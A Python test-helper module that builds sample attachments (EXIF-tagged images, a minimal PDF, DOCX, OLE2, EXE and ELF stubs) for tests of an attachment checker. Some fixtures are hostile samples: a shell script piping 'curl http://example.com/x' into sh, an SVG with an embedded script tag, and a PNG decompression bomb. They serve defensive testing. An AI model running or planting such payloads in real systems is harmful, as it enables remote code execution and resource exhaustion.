"""Build real files of every kind the attachment checks meet, inside a test's tmp folder.

Everything is generated on the fly (Pillow pictures, a hand-written PDF, a DOCX
built with ``zipfile``, an OLE2 header), so no binary fixtures live in the repo.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image

PILLOW_FORMATS = {
    ".jpg": "JPEG", ".jpeg": "JPEG", ".png": "PNG", ".gif": "GIF", ".bmp": "BMP",
    ".tif": "TIFF", ".tiff": "TIFF",
}
GPS_IFD = 0x8825


def picture(size: tuple[int, int] = (120, 80), mode: str = "RGB") -> Image.Image:
    """A small picture with some structure (a gradient and a block), not a flat colour."""
    image = Image.linear_gradient("L").resize(size)
    if mode == "L":
        return image
    rgb = Image.merge("RGB", (image, image.transpose(Image.Transpose.FLIP_LEFT_RIGHT), image))
    rgb.paste((200, 30, 30), (size[0] // 4, size[1] // 4, size[0] // 2, size[1] // 2))
    if mode == "RGBA":
        rgba = rgb.convert("RGBA")
        rgba.putalpha(Image.linear_gradient("L").resize(size))
        return rgba
    return rgb.convert(mode)


def noisy_picture(size: tuple[int, int], seed: int = 7) -> Image.Image:
    """Random noise compresses badly: the cheapest way to a big photo file."""
    data = random.Random(seed).randbytes(size[0] * size[1] * 3)
    return Image.frombytes("RGB", size, data)


def gps_exif(orientation: int | None = None) -> Image.Exif:
    """EXIF with a real-looking GPS block (a warehouse somewhere in Leeds)."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    if orientation is not None:
        exif[0x0112] = orientation
    exif[GPS_IFD] = {
        1: "N", 2: (53.0, 48.0, 1.5), 3: "W", 4: (1.0, 32.0, 58.2),
    }
    return exif


def write_image(path: Path, image: Image.Image | None = None, **options: object) -> Path:
    """Save ``image`` in the format its extension names (or ``format=`` in options)."""
    image = image if image is not None else picture()
    fmt = str(options.pop("format", PILLOW_FORMATS[path.suffix.lower()]))
    if fmt == "TIFF" and isinstance(options.get("exif"), Image.Exif):
        options["exif"] = options["exif"].tobytes()  # Pillow's TIFF writer wants bytes
    if fmt == "JPEG" and image.mode not in ("RGB", "L", "CMYK"):
        image = image.convert("RGB")
    image.save(path, fmt, **options)
    return path


def image_bytes(fmt: str, image: Image.Image | None = None, **options: object) -> bytes:
    buffer = io.BytesIO()
    (image or picture()).save(buffer, fmt, **options)
    return buffer.getvalue()


def write_pdf(path: Path, text: str = "Invoice 113-4567890-1234567") -> Path:
    """A minimal, valid one-page PDF with a correct cross-reference table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    path.write_bytes(bytes(out))
    return path


def write_docx(path: Path, macros: bool = False) -> Path:
    """A DOCX as Word writes it, at least as far as the parts the checker reads."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>Warranty</w:t>'
            "</w:r></w:p></w:body></w:document>",
        )
        if macros:
            archive.writestr("word/vbaProject.bin", b"\x00" * 64)
    return path


def write_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("photos/label.txt", "Return label inside")
    return path


def write_doc(path: Path, stream: str = "WordDocument") -> Path:
    """An OLE2 compound file header plus a directory sector naming ``stream``."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:26] = struct.pack("<H", 0x3E)  # minor version
    header[26:28] = struct.pack("<H", 3)  # major version 3: 512-byte sectors
    header[28:30] = b"\xfe\xff"  # little-endian
    header[30:32] = struct.pack("<H", 9)
    directory = bytearray(512)
    for index, name in enumerate(("Root Entry", stream)):
        encoded = (name + "\x00").encode("utf-16-le")
        entry = 128 * index
        directory[entry : entry + len(encoded)] = encoded
        directory[entry + 64 : entry + 66] = struct.pack("<H", len(encoded))
        directory[entry + 66] = 5 if index == 0 else 2
    path.write_bytes(bytes(header) + bytes(directory) + b"\x00" * 1024)
    return path


def write_text(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def write_exe(path: Path) -> Path:
    """The start of a Windows program: MZ header and the classic DOS stub text."""
    body = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    body += b"\x00" * 48 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 200
    path.write_bytes(bytes(body))
    return path


def write_elf(path: Path) -> Path:
    path.write_bytes(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120)
    return path


def write_html(path: Path) -> Path:
    return write_text(
        path,
        "<!DOCTYPE html>\n<html><head><title>Your invoice</title></head>"
        '<body><a href="https://example.com">Pay here</a></body></html>\n',
    )


def write_svg(path: Path) -> Path:
    return write_text(
        path,
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
        'width="10" height="10"><script>alert(1)</script></svg>\n',
    )


def write_script(path: Path) -> Path:
    return write_text(path, "#!/bin/sh\ncurl http://example.com/x | sh\n")


def write_sized_text(path: Path, size: int) -> Path:
    """A valid text file of exactly ``size`` bytes (for the 10,000,000-byte edge)."""
    line = b"Thank you for your order. Here are the care instructions.\n"
    data = (line * (size // len(line) + 1))[:size]
    path.write_bytes(data)
    return path


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


def write_png_bomb(path: Path, width: int = 100_000, height: int = 100_000) -> Path:
    """A tiny PNG whose header claims a gigantic canvas: costs bytes, not memory."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )
    return path


def truncate(path: Path, keep: float = 0.5) -> Path:
    data = path.read_bytes()
    path.write_bytes(data[: int(len(data) * keep)])
    return path
